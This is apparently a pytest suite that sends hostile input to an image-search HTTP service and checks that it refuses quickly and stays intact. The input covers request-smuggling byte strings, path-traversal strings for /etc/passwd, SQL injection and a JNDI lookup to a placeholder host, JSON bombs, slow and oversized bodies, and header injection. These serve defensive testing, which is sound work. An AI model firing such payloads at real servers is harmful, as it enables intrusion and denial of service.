"""What is sent to break a service, through a real server to a real engine: refused soon, and nothing left of it."""

from __future__ import annotations

import ctypes
import gc
import io
import json
import logging
import os
import re
import sys
import threading
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from PIL import Image

from service import connections
from service.app import create_app
from service.engine import Engine
from tests.indexer.fakes import CARD, FakeEncoder, unit_vectors
from tests.service.engines import settings_of
from tests.service.fake_engine import FakeJobs
from tests.service.galleries import fit, make_gallery
from tests.service.hostile import JPEG, photos, uploads
from tests.service.servers import Line, head, server_of, until

COUNT = 30
SOUND = photos()[0]
# The bound for what is refused.
SOON_S = 2.0
linux = pytest.mark.skipif(sys.platform != "linux", reason="looks into /proc")


@pytest.fixture(scope="module")
def engine(tmp_path_factory):
    """Thirty items of two types with a head, and an encoder that takes any photo."""
    folder = tmp_path_factory.mktemp("hostile") / "gallery"
    gallery = make_gallery(folder, unit_vectors(COUNT, CARD.dimension), ["dress", "skirt"] * (COUNT // 2))
    fit(gallery, "knn")
    with Engine(settings_of(folder), lambda _: FakeEncoder(CARD)) as engine:
        jobs, engine.jobs = engine.jobs, FakeJobs()
        engine.decoders.wait_ready()
        yield engine
        engine.jobs = jobs
        assert engine.decoders.deaths == 0


@pytest.fixture(scope="module")
def port(engine):
    with server_of(create_app(engine.settings, engine)) as port:
        yield port


@pytest.fixture(scope="module")
def hasty(engine):
    """The port of a service with little patience and small bodies."""
    with server_of(create_app(settings_of(engine.settings.gallery, max_body_mb=1, deadline_s=0.3), engine)) as port:
        yield port


@pytest.fixture
def line(port):
    with Line(port) as line:
        yield line


def settled_mb() -> float:
    """The memory of this process once what is free has gone back to the system."""
    gc.collect()
    ctypes.CDLL(None).malloc_trim(0)
    return resident_mb()


def resident_mb(pid: int | str = "self") -> float:
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def open_files() -> int:
    return len(os.listdir("/proc/self/fd"))  # noqa: PTH208


def detail_of(status: int, kind: str | None, body: bytes, name: str, said: str = "multipart/form-data") -> str:
    """The sentence of a refusal, which must be a problem that tells no path but what the asker `said`."""
    assert 400 <= status < 500, f"{name}: {status} {body[:300]!r}"
    assert kind == "application/problem+json", name
    detail = str(json.loads(body)["detail"])
    # What is shown of a photo is its first bytes, and one of them is a path.
    assert "/" not in detail.partition("it starts with")[0].replace(said, ""), f"{name}: {detail}"
    return detail


def alive(line: Line) -> None:
    answer = line.ask("GET", "/v1/catalog")
    assert (answer.status, json.loads(answer.body)["items"]) == (200, COUNT)


# Photos


@linux
def test_hostile_uploads(port, engine, caplog):
    """The corpus as raw bodies, and a part of it in forms."""
    with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=60) as client:
        assert client.post("/v1/neighbours", content=SOUND, headers={"Content-Type": JPEG}).status_code == 200
        # Made before: the encoders that make them keep memory of their own.
        corpus = list(uploads())
        processes = set(engine.decoders.process_ids)
        memory, files = settled_mb(), open_files()
        children = sum(resident_mb(pid) for pid in processes)
        count = refused = 0
        for name, content, kind, is_sound in corpus:
            asks: list[dict[str, Any]] = [{"content": content, "headers": {"Content-Type": kind}}]
            if count % 5 == 0:
                asks.append({"files": {"photo": ("photo", content, kind)}})
            for ask in asks:
                start = time.monotonic()
                response = client.post("/v1/neighbours?k=1", **ask)
                if response.status_code == 200:
                    assert is_sound is not False, name
                    assert len(response.json()["neighbours"]) == 1
                else:
                    assert not is_sound, f"{name}: {response.text}"
                    detail_of(response.status_code, response.headers["content-type"], response.content, name)
                    # A sound photo of 25 megapixels may take what any photo may.
                    assert time.monotonic() - start < SOON_S, name
                    refused += 1
            count += 1
            del content, asks, ask
        assert count >= 200
        assert refused >= 200
        assert client.post("/v1/neighbours", content=SOUND, headers={"Content-Type": JPEG}).status_code == 200
        metrics = client.get("/metrics").text
    assert "modiste_buffered_bytes 0.0" in metrics
    assert "modiste_decoder_deaths_total 0.0" in metrics
    assert [record for record in caplog.records if record.name == "service.decoding"] == []
    assert set(engine.decoders.process_ids) == processes
    # The largest upload is 20 MB, which client and service in this process may each hold one of.
    assert settled_mb() - memory < 60
    # A 25-megapixel photo takes a process 75 MB and more; each keeps less than one.
    assert sum(resident_mb(pid) for pid in processes) - children < 60 * len(processes)
    assert abs(open_files() - files) <= 4


def test_a_form_of_ten_thousand_parts(line):
    for part in (
        b'Content-Disposition: form-data; name="photo"; filename="a"\r\n\r\nx',
        b'Content-Disposition: form-data; name="photo"\r\n\r\nx',
        b"\r\n",
    ):
        body = b"".join(b"--b\r\n" + part + b"\r\n" for _ in range(10_000)) + b"--b--\r\n"
        headers = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(len(body))}
        for path in ("/v1/neighbours", "/v1/classify", "/v1/items/new"):
            start = time.monotonic()
            answer = line.ask("PUT" if "items" in path else "POST", path, headers, body)
            assert time.monotonic() - start < SOON_S
            detail_of(answer.status, answer.headers["content-type"], answer.body, path)
    alive(line)


PHOTO_PART = b'--b\r\nContent-Disposition: form-data; name="photo"; '


# What the parser leaves of a part without an end is closed when it is forgotten.
@pytest.mark.filterwarnings("ignore:Exception ignored in.*SpooledTemporaryFile")
@pytest.mark.filterwarnings("ignore:Unclosed file:ResourceWarning")
@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"--b",
        b"--b--\r\n",
        b"--b\r\n" * 1000,
        b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n",
        b"--b\r\n" + b"A" * 100_000 + b": x\r\n\r\nx\r\n--b--\r\n",
        b"--b\r\n" + b"A: b\r\n" * 100_000 + b"\r\nx\r\n--b--\r\n",
        b'--b\r\nContent-Disposition: form-data; name="' + b"x" * 100_000 + b'"\r\n\r\nx\r\n--b--\r\n',
        b'--b\r\nContent-Disposition: form-data; name="photo"; filename="../../etc/passwd\0"\r\n\r\nx\r\n--b--\r\n',
        PHOTO_PART + b"filename=a; filename*=UTF-8''%ff%00\r\n\r\nx\r\n--b--\r\n",
        PHOTO_PART + b'filename="a"\r\nContent-Transfer-Encoding: base64\r\n\r\nx',
    ],
    ids=range(11),
)
def test_malformed_forms(line, body):
    headers = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(len(body))}
    for path in ("/v1/neighbours", "/v1/classify"):
        answer = line.ask("POST", path, headers, body)
        detail_of(answer.status, answer.headers["content-type"], answer.body, path)


@pytest.mark.parametrize("boundary", ["", "x" * 10_000, '"', "a\\", "a b", "=;;", "\xff"])
def test_boundaries_that_are_none(line, boundary):
    body = b"--b--\r\n"
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary}", "Content-Length": str(len(body))}
    answer = line.ask("POST", "/v1/neighbours", headers, body)
    detail_of(answer.status, answer.headers["content-type"], answer.body, boundary)


def test_a_file_name_is_shown_and_never_opened(line, tmp_path):
    mark = tmp_path / "mark"
    part = f'--b\r\nContent-Disposition: form-data; name="photo"; filename="{mark}"\r\n\r\n'.encode() + SOUND + b"\r\n"
    body = part * 2 + b"--b--\r\n"
    headers = {"Content-Type": "multipart/form-data; boundary=b", "Content-Length": str(len(body))}
    answer = line.ask("POST", "/v1/classify", headers, body)
    assert answer.status == 200
    assert len(json.loads(answer.body)["photos"]) == 2
    assert not mark.exists()


# Bodies that lie, or never end


def test_chunks_past_the_limit(hasty):
    """Counted as they come: the limit is told before a body without end has ended."""
    with Line(hasty) as line:
        line.say(head("POST", "/v1/neighbours", {"Content-Type": JPEG, "Transfer-Encoding": "chunked"}))
        sent = 0
        while sent < 1600 and line.say(b"10000\r\n" + bytes(65_536) + b"\r\n") and not line.has_answer():
            sent += 1
        answer = line.answer()
        # 16 chunks are 1 MB; more of them are on their way in the sockets, and far fewer than 100 MB.
        assert sent < 1600
        assert answer.status in (0, 413)
        assert answer.is_closed
    with Line(hasty) as line:
        alive(line)
        until(lambda: b"modiste_buffered_bytes 0.0" in line.ask("GET", "/metrics").body)


def test_a_length_past_the_limit_is_refused_before_a_byte(hasty):
    for path in ("/v1/neighbours", "/v1/jobs", "/v1/items/a", "/openapi.json"):
        with Line(hasty) as line:
            start = time.monotonic()
            method = {"/v1/items/a": "PATCH", "/openapi.json": "GET"}.get(path, "POST")
            answer = line.ask(method, path, {"Content-Type": JPEG, "Content-Length": "999999999999"})
            assert time.monotonic() - start < SOON_S
            assert answer.is_closed
            assert answer.status == (200 if path == "/openapi.json" else 413)


def test_a_body_that_drips_is_ended(hasty):
    for length in ({"Content-Length": "1000"}, {"Transfer-Encoding": "chunked"}):
        with Line(hasty) as line:
            start = time.monotonic()
            line.say(head("POST", "/v1/neighbours", {"Content-Type": JPEG, **length}))
            while not line.has_answer() and line.say(b"1\r\n-\r\n" if "Transfer-Encoding" in length else b"-"):
                time.sleep(0.02)
                assert time.monotonic() - start < SOON_S
            answer = line.answer()
            assert answer.status == 408
            assert "did not come within 0.3 s" in detail_of(408, answer.headers["content-type"], answer.body, "slow")
            assert answer.is_closed


def test_who_hangs_up_within_a_body_leaves_nothing(hasty):
    for _ in range(20):
        with Line(hasty) as line:
            line.say(
                head("POST", "/v1/neighbours", {"Content-Type": JPEG, "Content-Length": "500000"}) + bytes(100_000)
            )
    with Line(hasty) as line:
        until(lambda: b"modiste_buffered_bytes 0.0" in line.ask("GET", "/metrics").body)
        alive(line)


# Requests that two servers might read differently

SMUGGLED = b"DELETE /v1/items/i00000 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
START = b"POST /v1/neighbours?item_id=i00001 HTTP/1.1\r\nHost: 127.0.0.1\r\n"


@pytest.mark.parametrize(
    "request_bytes",
    [
        START + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n" + SMUGGLED,
        START + b"Content-Length: 5, 5\r\n\r\nhello" + SMUGGLED,
        START + b"Content-Length: +5\r\n\r\nhello" + SMUGGLED,
        START + b"Content-Length: -1\r\n\r\n" + SMUGGLED,
        START + b"Content-Length: 0x5\r\n\r\nhello" + SMUGGLED,
        START + b"Content-Length: 5 5\r\n\r\nhello" + SMUGGLED,
        START + b"Content-Length : 5\r\n\r\nhello" + SMUGGLED,
        START + b"Content-Length: 99999999999999999999999\r\n\r\n" + SMUGGLED,
        START + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff1\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n" + SMUGGLED,
        START + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + SMUGGLED,
        START + b"X: a\r\n folded\r\nContent-Length\n: 0\r\n\r\n" + SMUGGLED,
        START + b"X: a\0b\r\n\r\n" + SMUGGLED,
        START + b"X: a\rTransfer-Encoding: chunked\r\n\r\n" + SMUGGLED,
        b"GET /v1/catalog HTTP/1.1\nHost: 127.0.0.1\n: \n\n" + SMUGGLED,
        b"GET  /v1/catalog  HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n\0" + SMUGGLED,
        b"GET /v1/catalog HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n" + SMUGGLED,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + SMUGGLED,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
    ],
    ids=range(26),
)
def test_a_request_of_two_readings_smuggles_nothing(port, engine, request_bytes):
    """The connection ends with it, so what is hidden behind it is no request."""
    with Line(port) as line:
        line.say(request_bytes)
        answer = line.answer()
        assert answer.status == 400
        assert answer.is_closed
    with Line(port) as line:
        alive(line)
    assert "i00000" in engine.state.serving.gallery


def test_a_length_that_is_too_small_ends_the_connection(port):
    with Line(port) as line:
        answer = line.ask("POST", "/v1/neighbours", {"Content-Type": JPEG, "Content-Length": "4"}, SOUND)
        # The rest is no request, whether it is met before the answer or after it.
        assert answer.status in (400, 422)
        assert answer.is_closed or line.answer().status in (0, 400)


def test_requests_in_a_row_are_answered_in_order(line):
    line.say(b"".join(head("GET", f"/v1/items/i{number:05}") for number in range(20)))
    content = b""
    while content.count(b"HTTP/1.1 200") < 20 or not content.endswith(b"}"):
        content += line.more()
    assert re.findall(rb'"item_id":"(i\d+)"', content) == [f"i{number:05}".encode() for number in range(20)]


# Headers


def test_thousands_of_headers(port):
    with Line(port) as line:
        answer = line.ask("GET", "/healthz", {f"X-{number}": "a" * 10 for number in range(5000)})
        assert answer.status in (200, 400, 431)
    with Line(port) as line:
        alive(line)


@linux
@pytest.mark.parametrize("more", [b"a" * 65_536, b"X-A: b\r\n" * 8192], ids=["one", "many"])
def test_headers_without_end(port, more):
    with Line(port) as line:
        memory = resident_mb()
        line.say(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ")
        sent = 0
        while sent < 1600 and line.say(more) and not line.has_answer():
            sent += 1
        assert sent < 1600
        assert line.answer().status in (0, 400)
        # 1,600 of them would be 100 MB.
        assert resident_mb() - memory < 30
    with Line(port) as line:
        alive(line)


def test_headers_in_pieces_with_a_large_body_behind_are_fine(line):
    start = head("POST", "/v1/neighbours", {"Content-Type": JPEG, "Content-Length": "3000000"})
    line.say(start[:40])
    time.sleep(0.05)
    line.say(start[40:] + SOUND.ljust(3_000_000, b"\0"))
    assert line.answer().status == 200


@pytest.mark.parametrize(
    "said", [b"", b"GET /healthz HTTP/1.1\r\nHost: a", b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /"]
)
def test_headers_that_do_not_come_end_the_connection(port, monkeypatch, said):
    monkeypatch.setattr(connections, "SECONDS", 0.2)
    with Line(port) as line:
        line.say(said)
        start = time.monotonic()
        while line.more():
            pass
        assert time.monotonic() - start < SOON_S


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        (head("GET", "/healthz"), b"\r\n"),
        # Answered before its body was asked for.
        (head("POST", "/healthz", {"Content-Length": "1000"}), b"a"),
    ],
    ids=["line break", "rest of a body"],
)
def test_a_connection_that_says_too_little_after_an_answer_ends(port, monkeypatch, asked, said):
    monkeypatch.setattr(connections, "SECONDS", 0.2)
    with Line(port) as line:
        line.say(asked)
        assert line.answer().status in (200, 405)
        line.say(said)
        start = time.monotonic()
        while line.more():
            pass
        assert time.monotonic() - start < SOON_S


@linux
@pytest.mark.parametrize("more", [b"a" * 65_536, b"X-A: b\r\n" * 8192], ids=["one", "many"])
def test_trailers_without_end(port, more):
    headers = {"Content-Type": JPEG, "Transfer-Encoding": "chunked"}
    with Line(port) as line:
        memory = resident_mb()
        line.say(head("POST", "/v1/neighbours", headers) + b"1\r\na\r\n0\r\nX-A: ")
        sent = 0
        while sent < 1600 and line.say(more):
            sent += 1
        assert sent < 1600
        assert resident_mb() - memory < 30
    with Line(port) as line:
        alive(line)


def test_small_chunks_are_fine(line):
    """Each has as much around it as it is itself."""
    chunks = b"".join(b"8\r\n" + b"\0" * 8 + b"\r\n" for _ in range(40_000))
    whole = b"%x\r\n" % len(SOUND) + SOUND + b"\r\n" + chunks + b"0\r\n\r\n"
    headers = {"Content-Type": JPEG, "Transfer-Encoding": "chunked"}
    assert line.ask("POST", "/v1/neighbours", headers, whole).status == 200


def test_who_does_not_read_the_answer_is_let_go(monkeypatch):
    """An answer is held until it is read."""
    monkeypatch.setattr(connections, "READ_SECONDS", 0.2)
    ended = threading.Event()

    async def answer(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            await send({"type": "http.response.start", "status": 200, "headers": []})
            await send({"type": "http.response.body", "body": b"a" * 50_000_000, "more_body": True})
            await send({"type": "http.response.body"})
            ended.set()

    with server_of(answer) as port, Line(port) as line:
        line.say(head("GET", "/"))
        assert ended.wait(SOON_S)
        while line.more():
            pass


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "127.0.0.1\\@evil"},
        {"Host": "[::1"},
        {"Host": "x" * 10_000},
        {"Authorization": "Bearer " + "x" * 100_000},
        {"Authorization": "Bearer \xff\xfe"},
        {"X-API-Key": "\xff" * 1000},
        {"X-Request-ID": "a\tb"},
        {"Origin": "http://[::"},
        {"Origin": "null"},
        {"If-None-Match": '",' * 10_000},
        {"Accept": "\xff", "Accept-Encoding": "gzip;q=nan", "Range": "bytes=0-,1-,2-", "Cookie": "a=b;" * 1000},
        {"X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "evil.example", "Forwarded": "for=127.0.0.1"},
        {"Content-Type": "x" * 10_000},
        {"Content-Type": "\xff/\xff"},
        {"Expect": "100-continue"},
        {"Connection": "Upgrade", "Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA"},
        {"Upgrade": "websocket", "Connection": "upgrade", "Sec-WebSocket-Key": "a", "Sec-WebSocket-Version": "13"},
    ],
    ids=range(17),
)
def test_headers_that_make_no_sense(port, headers):
    for method, path in (("GET", "/v1/items/i00001/image"), ("POST", "/v1/neighbours?item_id=i00001")):
        with Line(port) as line:
            line.say(head(method, path, headers))
            assert 200 <= line.answer().status < 500
    with Line(port) as line:
        alive(line)


# JSON


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000,
        b'{"labels":' * 50_000,
        b'{"labels": {"type": ' + b"[" * 5000 + b"]" * 5000 + b"}}",
        b'{"labels": ' + b'{"a":' * 900 + b"[]" + b"}" * 900 + b"}",
        b'{"kind": "fit", "targets": ["type"], "seed": ' + b"9" * 1_000_000 + b"}",
        b'{"kind": "fit", "targets": ["type"], "timeout": 1e999}',
        b'{"kind": "fit", "targets": ["type"], "timeout": -Infinity, "trials": NaN}',
        b'{"kind": "fit", "targets": ["' + b"x" * 5_000_000 + b'"',
        b'{"kind": "fit", "targets": [' + b'"x",' * 1_000_000 + b'"x"], "labels": {}}',
        b'{"kind": {"kind": "fit"}, "labels": null}',
        b'{"kind": "fit\\u0000", "labels": {"\\ud800": ["a"]}}',
        b'{"kind": "refresh", "kind": "nothing", "labels": {"type": ["\\udfff"]}}',
        b'{"labels": {"type": ["' + b"x" * 1000 + b'"]}, "kind": "migrate", "encoder": 5}',
        b'{"labels": {"__proto__": ["a"], "constructor": ["b"]}, "kind": "__init__"}',
        b'{"labels": {"type": "' + b"a" * 2_000_000 + b'"}}',
        b"{" + b",".join(b'"k%d":[]' % number for number in range(20_000)) + b"}",
        b"\xff\xfe{\0}\0",
        b"\xef\xbb\xbf{}",
        b"\xff\xfe\xfd",
        b"null",
        b'"text"',
        b"1" * 5000,
    ],
    ids=range(22),
)  # fmt: skip
def test_json_bombs(line, body):
    headers = {"Content-Type": "application/json", "Content-Length": str(len(body))}
    for method, path in (("PATCH", "/v1/items/i00001"), ("POST", "/v1/jobs")):
        start = time.monotonic()
        answer = line.ask(method, path, headers, body)
        assert time.monotonic() - start < SOON_S
        detail = detail_of(answer.status, answer.headers["content-type"], answer.body, path)
        assert len(detail) < 2000
    alive(line)


def test_twenty_thousand_labels(line, engine):
    """More targets than there can be are refused by their number, or by their names."""
    body = json.dumps({"labels": {f"t{number}": ["a"] for number in range(20_000)}}).encode()
    start = time.monotonic()
    answer = line.ask(
        "PATCH", "/v1/items/i00001", {"Content-Type": "application/json", "Content-Length": str(len(body))}, body
    )
    assert time.monotonic() - start < SOON_S
    detail_of(answer.status, answer.headers["content-type"], answer.body, "labels")
    assert engine.item("i00001").labels == {"type": ["skirt"]}


# Ids, filters and labels

TRAVERSALS = (
    "../../etc/passwd",
    "../" * 10 + "etc/passwd",
    "..\\..\\etc\\passwd",
    "/etc/passwd",
    "//etc/passwd",
    "file:///etc/passwd",
    "....//....//etc/passwd",
    "photos/../../../etc/passwd",
    "../heads/type/knn.json",
    "etc/passwd\0.jpg",
    "\uff0e\uff0e/etc/passwd",
)


@pytest.mark.parametrize("path", TRAVERSALS)
def test_paths_in_ids_are_ids(line, path):
    once = quote(path, safe="")
    ways = {
        path.replace("\0", "%00").encode("ascii", "ignore").decode(),
        quote(path),
        once,
        once.replace(".", "%2e"),
        once.replace(".", "%2E").replace("%2F", "/"),
        once.replace("%", "%25"),
        once.replace("%2F", "%c0%af").replace(".", "%c0%ae"),
        once.replace("%2F", "%u2215"),
    }
    for way in ways:
        for suffix in ("", "/image"):
            answer = line.ask("GET", f"/v1/items/{way}{suffix}")
            if answer.status == 400:
                # An address that is none ends the connection.
                return
            assert answer.status == 404, way
            assert b"root:" not in answer.body
        answer = line.ask("DELETE", f"/v1/items/{way}")
        assert answer.status == 404
    for place in ("/v1/neighbours?item_id=", "/v1/explain?target=type&item_id=", "/v1/classify?item_id="):
        assert line.ask("POST", place + once).status == 404
    assert line.ask("GET", f"/v1/jobs/{once}").status == 404
    assert line.ask("GET", f"/{path}".replace("\0", "%00").encode("ascii", "ignore").decode()).status in (400, 404)


def test_an_item_that_is_called_like_a_path_stays_in_the_gallery(port, engine, tmp_path):
    folder = engine.settings.gallery
    outside = sorted(folder.parent.iterdir())
    file = io.BytesIO()
    Image.new("RGB", (20, 20), "red").save(file, "JPEG")
    headers = {"Content-Type": JPEG, "Content-Length": str(len(file.getvalue()))}
    with Line(port) as line:
        for path in ("../../escaped", "/tmp/escaped", "..", "photos/x.jpg", "' OR 1=1 --", "a'; DROP TABLE items; --"):
            place = "/v1/items/" + quote(path, safe="").replace(".", "%2E")
            assert line.ask("PUT", place, headers, file.getvalue()).status == 201
            assert json.loads(line.ask("GET", place).body)["item_id"] == path
            assert line.ask("GET", place + "/image").status == 200
            assert json.loads(line.ask("GET", "/v1/catalog").body)["items"] == COUNT + 1
            # None but this one.
            assert line.ask("DELETE", place).status == 204
            alive(line)
    assert sorted(folder.parent.iterdir()) == outside
    assert not list(folder.rglob("*escaped*"))


@pytest.mark.parametrize(
    "item_id", ["%00", "a%00b", "%0a", "a%0d%0aX-Injected:1", "%1b%5b31m", "%ed%a0%80", "%20", "%c2%85", "x" * 513]
)
def test_ids_that_are_no_text_are_refused(line, item_id):
    headers = {"Content-Type": JPEG, "Content-Length": str(len(SOUND))}
    assert line.ask("GET", f"/v1/items/{item_id}").status == 404
    answer = line.ask("PUT", f"/v1/items/{item_id}", headers, SOUND)
    if item_id == "%ed%a0%80":
        # No UTF-8: the server reads signs that stand for no sign, which are text.
        assert answer.status == 201
        assert line.ask("DELETE", f"/v1/items/{item_id}").status == 204
    else:
        detail_of(answer.status, answer.headers["content-type"], answer.body, item_id)
    assert "x-injected" not in answer.headers
    alive(line)


INJECTIONS = (
    "' OR 1=1",
    "' OR '1'='1' --",
    "'; DROP TABLE items; --",
    "\") OR 1=1 OR (\"",
    "type') OR true --",
    "item_id IS NOT NULL",
    "_rowid >= 0",
    "${jndi:ldap://evil}",
    "{{7*7}}",
    "%s%s%n",
    "\u202e\u0000",
)  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS)
def test_sql_is_text(line, engine, text):
    quoted = quote(text, safe="")
    version = engine.state.serving.gallery.snapshot.version
    for where in (quoted, f"type%3D{quoted}", f"{quoted}%3Ddress", f"split%3D{quoted}"):
        for method, path in (("GET", "/v1/items?where="), ("POST", "/v1/neighbours?item_id=i00001&where=")):
            answer = line.ask(method, path + where)
            detail = detail_of(answer.status, answer.headers["content-type"], answer.body, where, text)
            assert not re.search(r"SELECT|lance|datafusion|Traceback|rust", detail, re.IGNORECASE)
    page = json.loads(line.ask("GET", f"/v1/items?limit=1000&after={quoted}").body)
    expected = [f"i{number:05}" for number in range(COUNT) if f"i{number:05}" > text]
    assert [item["item_id"] for item in page["items"]] == expected
    for path in (
        "/v1/neighbours?item_id=",
        "/v1/classify?item_id=i00001&targets=",
        "/v1/explain?item_id=i00001&target=",
    ):
        assert line.ask("POST", path + quoted).status == 404
    for path in ("/v1/classify?item_id=i00001&allowed=", "/v1/classify?item_id=i00001&weights="):
        answer = line.ask("POST", path + quoted)
        detail_of(answer.status, answer.headers["content-type"], answer.body, path, text)
    assert line.ask("DELETE", f"/v1/items/{quoted}").status == 404
    body = json.dumps({"labels": {text: ["a"]}}).encode()
    headers = {"Content-Type": "application/json", "Content-Length": str(len(body))}
    answer = line.ask("PATCH", "/v1/items/i00001", headers, body)
    detail_of(answer.status, answer.headers["content-type"], answer.body, "label", text)
    assert engine.state.serving.gallery.snapshot.version == version
    alive(line)


def test_a_label_that_is_sql_is_kept_and_found_as_it_is(line):
    text = "' OR 1=1 --"
    for names in ([text], ["skirt"]):
        body = json.dumps({"labels": {"type": names}}).encode()
        headers = {"Content-Type": "application/json", "Content-Length": str(len(body))}
        assert line.ask("PATCH", "/v1/items/i00001", headers, body).status == 200
        page = json.loads(line.ask("GET", f"/v1/items?where=type%3D{quote(names[0])}&limit=100").body)
        assert {name for item in page["items"] for name in item["labels"]["type"]} == set(names)
        assert page["total"] == (1 if names == [text] else COUNT // 2)


@pytest.mark.parametrize(
    "query",
    [
        *("?" + "a=b&" * 10_000, "?k=" + "9" * 5000, "?k=%00", "?k=1&k=2&k=x"),
        *("?box=" + ",".join("1" * 1000), "?%ff=%fe", "?;;;==&&"),
    ],
    ids=range(7),
)  # fmt: skip
def test_queries_that_make_no_sense(port, query):
    with Line(port) as line:
        start = time.monotonic()
        answer = line.ask("POST", f"/v1/neighbours{query}")
        assert time.monotonic() - start < SOON_S
        detail_of(answer.status, answer.headers["content-type"], answer.body, query[:50])


def test_no_log_line_is_a_callers(line, caplog):
    """An id with a line break makes no line of its own."""
    with caplog.at_level(logging.DEBUG):
        line.ask("GET", "/v1/items/a%0aFAKE%20LINE")
    assert not any("FAKE LINE" in record.getMessage() for record in caplog.records)
